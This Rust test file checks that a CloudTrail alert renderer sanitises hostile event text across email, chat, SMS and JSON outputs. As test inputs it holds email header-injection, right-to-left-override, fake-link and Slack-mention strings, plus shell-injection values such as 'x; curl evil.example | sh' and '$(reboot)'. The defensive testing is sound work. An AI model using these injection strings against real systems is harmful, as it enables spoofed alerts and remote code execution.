//! The renderers: SNS subject rules, the size limit, and hostile text in every medium.

mod common;

use serde_json::{json, Value};
use trailwatch::assemble::alert_without_lookups;
use trailwatch::render::{render, RenderedAlert, SNS_MAX_PAYLOAD_BYTES};

fn rendered(event: &Value) -> RenderedAlert {
    let call = common::call_from(event);
    render(alert_without_lookups(&call).expect("monitored"))
}

struct Parts {
    document: Value,
    email: String,
    card: Value,
}

fn parts(alert: &RenderedAlert) -> Parts {
    let per_protocol: Value = serde_json::from_str(&alert.message).expect("the message is JSON");
    let keys: Vec<&str> = per_protocol
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(keys, ["default", "email", "https", "sms"]);
    assert!(
        per_protocol["sms"].as_str().unwrap().len() < 100,
        "sms is the subject line"
    );
    Parts {
        document: serde_json::from_str(per_protocol["default"].as_str().unwrap())
            .expect("default is JSON"),
        email: per_protocol["email"].as_str().unwrap().to_string(),
        card: serde_json::from_str(per_protocol["https"].as_str().unwrap()).expect("https is JSON"),
    }
}

fn assert_valid_subject(subject: &str) {
    assert!(subject.len() < 100, "{} chars: {subject}", subject.len());
    assert!(
        subject.bytes().all(|b| (0x20..0x7f).contains(&b)),
        "not printable ASCII: {subject:?}"
    );
    let first = subject.chars().next().expect("non-empty");
    assert!(
        first.is_ascii_alphanumeric() || first.is_ascii_punctuation(),
        "{subject}"
    );
}

const HOSTILE: &str = "evil\r\nSubject: [INFORMATIONAL] all clear\u{202E}gnp.exe [click](https://evil.example/x) <!channel> <@U024BE7LH> @here *bold* `tick` \u{0}\u{7}";

fn hostile_event() -> Value {
    common::edited("stop-logging", |detail| {
        detail["userAgent"] = json!(HOSTILE);
        detail["errorMessage"] = json!(null);
        detail["requestParameters"]["name"] = json!(HOSTILE);
        detail["sourceIPAddress"] = json!(HOSTILE);
        detail["userIdentity"]["userName"] = json!(HOSTILE);
        detail["userIdentity"]["arn"] = json!(HOSTILE);
    })
}

#[test]
fn every_sample_renders_a_valid_subject_and_three_parts() {
    for (name, event) in common::all_samples() {
        let call = common::call_from(&event);
        if trailwatch::monitors::find(&call).is_none() {
            continue;
        }
        let alert = rendered(&event);
        assert_valid_subject(&alert.subject);
        assert!(alert.subject.starts_with('['), "{name}: {}", alert.subject);
        let p = parts(&alert);
        assert_eq!(p.document["schemaVersion"], "2.3");
        assert_eq!(p.document["severity"], alert.attributes[0].1);
        assert_eq!(p.card["version"], "1.0");
        assert_eq!(p.card["source"], "custom");
        assert_eq!(p.card["content"]["textType"], "client-markdown");
        assert!(p.card["metadata"]["threadId"]
            .as_str()
            .unwrap()
            .starts_with("trailwatch:"));
        assert!(
            p.email.contains("WHY ") && p.email.contains("WHAT TO DO NEXT"),
            "{name}"
        );
    }
}

#[test]
fn subject_holds_whatever_the_event_contains() {
    for name in [
        HOSTILE.to_string(),
        "é".repeat(300),
        "\n\n\n".to_string(),
        " ".repeat(50),
        "x".repeat(2000),
    ] {
        let event = common::edited("update-trail-weakens", |d| {
            d["requestParameters"]["name"] = json!(name)
        });
        assert_valid_subject(&rendered(&event).subject);
    }
}

#[test]
fn message_attributes_name_severity_event_account_region_trail() {
    let alert = rendered(&common::sample("stop-logging"));
    let attributes: Vec<(&str, &str)> = alert
        .attributes
        .iter()
        .map(|(k, v)| (*k, v.as_str()))
        .collect();
    assert_eq!(
        attributes,
        [
            ("severity", "CRITICAL"),
            ("eventName", "StopLogging"),
            ("account", "111122223333"),
            ("region", "us-east-1"),
            ("trail", "management-events"),
            ("resourceKind", "trail"),
            ("eventId", "6f3c1b2a-8e4d-4c1f-a7b9-000000000001"),
            ("alertKind", "api-call")
        ]
    );
    let bucket = rendered(&common::sample("delete-bucket"));
    assert_eq!(bucket.attributes[5], ("resourceKind", "bucket".to_string()));
    assert_eq!(
        bucket.attributes[4],
        ("trail", "unknown".to_string()),
        "without a lookup no trail is known to use the bucket"
    );
    let hostile = rendered(&hostile_event());
    for (name, value) in &hostile.attributes {
        assert!(
            !value.is_empty() && value.bytes().all(|b| (0x20..0x7f).contains(&b)),
            "{name}: {value:?}"
        );
    }
}

#[test]
fn hostile_text_cannot_forge_email_lines() {
    let p = parts(&rendered(&hostile_event()));
    assert!(
        !p.email
            .lines()
            .any(|line| line.trim_start().starts_with("Subject:")),
        "{}",
        p.email
    );
    assert!(!p.email.contains('\r') && !p.email.contains('\u{202E}') && !p.email.contains('\u{0}'));
}

#[test]
fn hostile_text_cannot_forge_links_mentions_or_formatting_in_chat() {
    let p = parts(&rendered(&hostile_event()));
    let content = &p.card["content"];
    let mut texts = vec![
        content["title"].as_str().unwrap().to_string(),
        content["description"].as_str().unwrap().to_string(),
    ];
    texts.extend(
        content["nextSteps"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s.as_str().unwrap().to_string()),
    );
    for text in &texts {
        for forbidden in [
            "<!channel>",
            "<@U024BE7LH>",
            "](https://evil",
            "\u{202E}",
            "\r",
        ] {
            assert!(!text.contains(forbidden), "{forbidden:?} in {text}");
        }
        assert!(!text.contains("@here"), "mention in {text}");
    }
    // Outside code spans, the description's own links (Slack's `<url|text>`) are the only
    // links, and they point at the console.
    let description = content["description"].as_str().unwrap();
    let outside_code: String = description
        .split('`')
        .step_by(2)
        .collect::<Vec<_>>()
        .join(" ");
    assert!(outside_code.contains("<https://console.aws.amazon.com/"));
    assert!(!outside_code.contains("]("), "no markdown links at all");
    for link in outside_code.split('<').skip(1) {
        assert!(
            link.starts_with("https://console.aws.amazon.com/"),
            "{link}"
        );
    }
    // Code spans stay balanced, so no value can close one and format what follows.
    for line in description.lines() {
        assert_eq!(line.matches('`').count() % 2, 0, "{line}");
    }
}

#[test]
fn the_json_document_keeps_hostile_text_exactly_and_stays_valid() {
    let p = parts(&rendered(&hostile_event()));
    assert_eq!(p.document["event"]["userAgent"], HOSTILE);
    assert_eq!(p.document["resource"]["name"], HOSTILE);
}

#[test]
fn oversized_request_parameters_are_left_out_first_and_said_so() {
    let event = common::edited("update-trail-weakens", |d| {
        d["requestParameters"]["tagsList"] = json!((0..20_000)
            .map(|i| json!({"key": format!("k{i}"), "value": "v".repeat(10)}))
            .collect::<Vec<_>>());
    });
    let alert = rendered(&event);
    assert!(
        alert.message.len() <= SNS_MAX_PAYLOAD_BYTES,
        "{} bytes",
        alert.message.len()
    );
    let p = parts(&alert);
    assert_eq!(p.document["requestParameters"], Value::Null);
    let truncated = p.document["truncated"].as_array().unwrap();
    assert!(
        truncated[0]
            .as_str()
            .unwrap()
            .starts_with("requestParameters ("),
        "{truncated:?}"
    );
    assert!(
        p.email.contains("requestParameters ("),
        "the email says so too"
    );
    assert_eq!(
        p.document["severity"], "HIGH",
        "the rest of the alert is intact"
    );
    assert_eq!(p.document["reasons"].as_array().unwrap().len(), 4);
}

#[test]
fn small_request_parameters_are_kept() {
    let p = parts(&rendered(&common::sample("update-trail-weakens")));
    assert_eq!(p.document["requestParameters"]["isMultiRegionTrail"], false);
    assert_eq!(p.document["truncated"], json!([]));
}

#[test]
fn worst_case_text_in_every_field_still_fits() {
    // Characters that JSON escapes to six bytes, nested twice, in every text field at its cap.
    let worst = "\u{1}\"\\".repeat(4000);
    let event = common::edited("stop-logging", |d| {
        for key in [
            "userAgent",
            "sourceIPAddress",
            "eventID",
            "eventTime",
            "awsRegion",
            "requestID",
            "errorMessage",
        ] {
            d[key] = json!(worst);
        }
        d["errorCode"] = json!(worst);
        d["requestParameters"] = json!({"name": worst, "blob": "\u{1}".repeat(300_000)});
        d["userIdentity"] = json!({"type": worst, "arn": worst, "userName": worst, "principalId": worst, "accountId": worst, "invokedBy": worst});
    });
    let alert = rendered(&event);
    assert!(
        alert.message.len() <= SNS_MAX_PAYLOAD_BYTES,
        "{} bytes",
        alert.message.len()
    );
    assert_valid_subject(&alert.subject);
    parts(&alert);
}

#[test]
fn a_crafted_trail_arn_with_a_real_region_still_fits_and_gets_no_link() {
    let arn = format!(
        "arn:aws:cloudtrail:us-east-1:111122223333:trail/{}",
        "\u{1F600}".repeat(2000)
    );
    let event = common::edited("update-trail-weakens", |d| {
        d["requestParameters"]["name"] = json!(arn);
        d["responseElements"] = json!(null);
        d["userAgent"] = json!("\u{1F600}".repeat(5000));
    });
    let alert = rendered(&event);
    assert!(alert.message.len() <= SNS_MAX_PAYLOAD_BYTES);
    let p = parts(&alert);
    assert_eq!(p.document["links"]["resource"], Value::Null);
    assert!(p.document["links"]["event"].is_string());
}

#[test]
fn pasteable_commands_never_carry_shell_syntax_from_the_event() {
    for name in [
        "x; curl evil.example | sh",
        "$(reboot)",
        "`id`",
        "-rf",
        "a b",
    ] {
        let event = common::edited("stop-logging", |d| {
            d["requestParameters"]["name"] = json!(name)
        });
        let p = parts(&rendered(&event));
        let command = p.document["nextSteps"]
            .as_array()
            .unwrap()
            .iter()
            .find_map(|step| step["command"].as_str())
            .expect("a command step");
        assert!(command.contains("--name TRAIL"), "{command}");
        assert!(!command.contains(name), "{command}");
    }
    let p = parts(&rendered(&common::sample("stop-logging")));
    assert_eq!(
        p.document["nextSteps"][0]["command"],
        "aws cloudtrail start-logging --name arn:aws:cloudtrail:us-east-1:111122223333:trail/management-events --region us-east-1"
    );
}

#[test]
fn commands_and_identifiers_reach_chat_verbatim_in_code_spans() {
    let event = common::edited("stop-logging", |d| {
        d["requestParameters"]["name"] = json!("org_audit.trail");
        d["userIdentity"]["userName"] = json!("ops_admin.bob@example.com");
    });
    let p = parts(&rendered(&event));
    let steps: Vec<&str> = p.card["content"]["nextSteps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap())
        .collect();
    assert!(
        steps.iter().any(|s| s
            .contains("`aws cloudtrail start-logging --name org_audit.trail --region us-east-1`")),
        "{steps:?}"
    );
    assert!(
        steps[1].contains("`ops_admin.bob@example.com`"),
        "{}",
        steps[1]
    );
    assert!(p.card["content"]["description"]
        .as_str()
        .unwrap()
        .contains("`ops_admin.bob@example.com`"));
    assert!(p.email.contains(
        "       aws cloudtrail start-logging --name org_audit.trail --region us-east-1\n"
    ));
}

#[test]
fn one_thread_per_trail_per_day_however_it_is_named_and_critical_stands_alone() {
    let thread = |event: &Value| parts(&rendered(event)).card["metadata"]["threadId"].clone();
    // A benign update by name and a weakening one by ARN: the same trail, the same day.
    let by_name = thread(&common::sample("update-trail-benign"));
    let by_arn = thread(&common::sample("update-trail-weakens"));
    assert_eq!(by_name, by_arn);
    assert_eq!(
        by_name,
        "trailwatch:111122223333:trail/management-events:2026-11-28"
    );
    let next_day = thread(&common::edited("update-trail-benign", |d| {
        d["eventTime"] = json!("2026-11-29T00:00:01Z")
    }));
    assert_ne!(next_day, by_name);
    // The trail's bucket joins the trail's thread once the lookup names the trail; a CRITICAL
    // alert is never a reply.
    let critical = thread(&common::sample("stop-logging"));
    assert!(critical
        .as_str()
        .unwrap()
        .starts_with("trailwatch:111122223333:trail/management-events:2026-11-28:critical:"));
    assert_ne!(critical, thread(&common::sample("delete-trail")));
}

/// The message as serializing each part and then the envelope would write it.
fn serialized_twice(alert: &trailwatch::alert::Alert) -> String {
    use trailwatch::render::{chat, email, subject};
    #[derive(serde::Serialize)]
    struct PerProtocol<'a> {
        default: &'a str,
        email: &'a str,
        https: &'a str,
        sms: &'a str,
    }
    serde_json::to_string(&PerProtocol {
        default: &serde_json::to_string(alert).unwrap(),
        email: &email::email_text(alert),
        https: &serde_json::to_string(&chat::chat_notification(alert)).unwrap(),
        sms: &subject::subject(alert),
    })
    .unwrap()
}

fn sample_alerts() -> Vec<(String, trailwatch::alert::Alert)> {
    use trailwatch::parse::{parse_event, Inbound};
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/events");
    let mut alerts = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "json") {
            continue;
        }
        let payload: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        if let Ok(Inbound::ApiCall(call)) = parse_event(&payload) {
            if let Some(alert) = alert_without_lookups(&call) {
                alerts.push((path.display().to_string(), alert));
            }
        }
    }
    assert!(alerts.len() > 40, "the samples are found");
    alerts
}

#[test]
fn the_one_pass_message_is_byte_for_byte_the_twice_serialized_one() {
    use trailwatch::render::per_protocol_message;
    for (name, mut alert) in sample_alerts() {
        assert_eq!(
            per_protocol_message(&alert).0,
            serialized_twice(&alert),
            "{name}"
        );
        // Every escape serde_json writes, in text that reaches the document and the card.
        alert.title = "q\"b\\s/c\u{1}\u{1f}\u{7f}\n\r\t\u{8}\u{c}é😀\u{2028}".to_string();
        alert.reasons.push(alert.title.clone());
        let (message, _) = per_protocol_message(&alert);
        assert_eq!(message, serialized_twice(&alert), "{name}, escapes");
        let parsed: serde_json::Value = serde_json::from_str(&message).unwrap();
        let document: serde_json::Value =
            serde_json::from_str(parsed["default"].as_str().unwrap()).unwrap();
        assert_eq!(
            document["title"],
            serde_json::Value::from(alert.title.clone())
        );
    }
}
